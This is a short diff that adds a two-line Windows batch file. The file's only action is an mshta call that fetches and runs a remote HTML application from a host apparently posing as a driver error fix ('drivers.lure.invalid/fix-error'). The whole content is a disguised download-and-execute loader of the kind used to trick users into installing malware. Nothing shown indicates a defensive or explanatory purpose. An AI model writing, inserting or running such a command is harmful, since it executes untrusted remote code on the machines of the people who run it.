@@ -1,0 +1,2 @@
+@echo off
+mshta https://drivers.lure.invalid/fix-error
